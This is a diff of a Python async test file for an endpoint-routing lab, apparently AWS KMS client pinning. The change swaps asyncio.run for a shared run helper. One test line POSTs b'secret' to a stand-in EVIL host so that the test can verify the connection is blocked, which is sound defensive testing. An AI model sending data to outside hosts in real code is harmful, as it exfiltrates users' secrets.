@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import asyncio
 from collections.abc import Mapping
 from typing import Any
 
@@ -12,7 +11,7 @@ from botocore.exceptions import ClientError
 from endpoint_router.lab.network import Lab
 from endpoint_router.lab.values import Reply
 from endpoint_router.sdk.seams_async import HELD
-from tests.support.async_lab import calls, client_of, lead, plain_session, session_for
+from tests.support.async_lab import calls, client_of, lead, plain_session, run, session_for
 from tests.support.lab_client import KMS, KMS_FIPS
 from tests.support.pinning import ONE, PRIVATE_DNS, private_dns
 
@@ -57,7 +56,7 @@ def test_where_nobody_wants_anything_aiohttp_does_as_it_does():
             async with client_of(plain_session(lab)) as client:
                 await lead(client, lab).list_keys()
 
-        asyncio.run(plain())
+        run(plain())
         went = [(seen.host, seen.path) for seen in lab.seen]
         assert [host for host, _ in went] == [KMS, EVIL]
         lab.seen.clear()
@@ -84,5 +83,5 @@ def test_each_hop_is_held_to_the_decision_where_it_connects(policy: Mapping[str,
                     await session.request("POST", f"https://{EVIL}/", data=b"secret")
                 assert lab.dialled == before
 
-        asyncio.run(main())
+        run(main())
         assert not lab.seen
